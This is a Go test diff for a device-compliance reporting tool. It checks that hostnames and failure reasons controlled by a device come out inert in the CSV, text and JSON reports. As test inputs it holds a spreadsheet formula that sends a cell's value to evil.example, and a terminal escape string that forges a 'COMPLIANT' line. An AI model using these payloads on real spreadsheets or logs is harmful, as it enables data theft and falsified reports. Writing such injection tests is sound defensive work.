@@ -2,6 +2,7 @@ package period_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -647,5 +648,65 @@ func TestBuildReenrolled(t *testing.T) {
 	later := build(t, st, period.Options{From: day(4, 1), To: day(4, 30), Now: day(5, 1)})
 	if got := ids(later.Devices); !slices.Equal(got, []string{"dev-new"}) || slices.Contains(ids(later.NeverReported), "dev-old") {
 		t.Errorf("a later period: devices %v, never reported %v; want only dev-new", got, ids(later.NeverReported))
+	}
+}
+
+// TestHostileStringsInert: strings a device controls (its hostname, the
+// reasons built from its evidence) are inert in every period output: no
+// spreadsheet formula in the CSVs, no escape sequence or forged line in the
+// text, escaped in JSON. (Enrollment refuses control characters in host
+// fields; these rows stand for data stored before that, or a reason built
+// from an excerpt.)
+func TestHostileStringsInert(t *testing.T) {
+	st, err := sqlite.Open(filepath.Join(t.TempDir(), "evident.db"), false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx := t.Context()
+	const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	const forge = "\x1b[2K\rDevice forged (dev_x): COMPLIANT\n\u202eevil"
+	if _, err := st.EnrollDevice(ctx, store.Device{ID: "dev-h", Hostname: formula + forge, EnrolledAt: day(1, 10)}); err != nil {
+		t.Fatal(err)
+	}
+	for _, ctl := range policy.Controls {
+		if err := states.Record(ctx, st, "dev-h", []store.ControlState{{ControlID: ctl.ID, Status: store.Fail, Reason: "@SUM(1+1)" + forge, EvidenceSeq: 1}}, nil, day(1, 10)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rep := build(t, st, period.Options{From: day(3, 1), To: day(3, 31), Now: day(4, 1)})
+	var csvOut, sumOut, text, js bytes.Buffer
+	for _, w := range []struct {
+		f   func(io.Writer, *period.Report) error
+		out *bytes.Buffer
+	}{{period.WriteCSV, &csvOut}, {period.WriteSummaryCSV, &sumOut}, {period.WriteText, &text}, {period.WriteJSON, &js}} {
+		if err := w.f(w.out, rep); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rows, err := csv.NewReader(&csvOut).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("CSV cell a spreadsheet would run: %q", cell)
+			}
+		}
+	}
+	if !strings.Contains(csvOut.String()+strings.Join(rows[1], ","), `'=HYPERLINK`) {
+		t.Errorf("the hostname is not in the CSV, neutralised: %v", rows[1])
+	}
+	for _, bad := range []string{"\x1b", "\r", "\u202e", "\nDevice forged"} {
+		if strings.Contains(text.String(), bad) {
+			t.Errorf("the text report holds %q:\n%s", bad, text.String())
+		}
+	}
+	if !strings.Contains(text.String(), `\x1b[2K\rDevice forged (dev_x): COMPLIANT\n\u202eevil`) {
+		t.Errorf("the text report does not show the hostile string visibly escaped:\n%s", text.String())
+	}
+	if strings.ContainsAny(js.String(), "\x1b\r\u202e") || !json.Valid(js.Bytes()) {
+		t.Error("the JSON report holds a raw control character")
 	}
 }
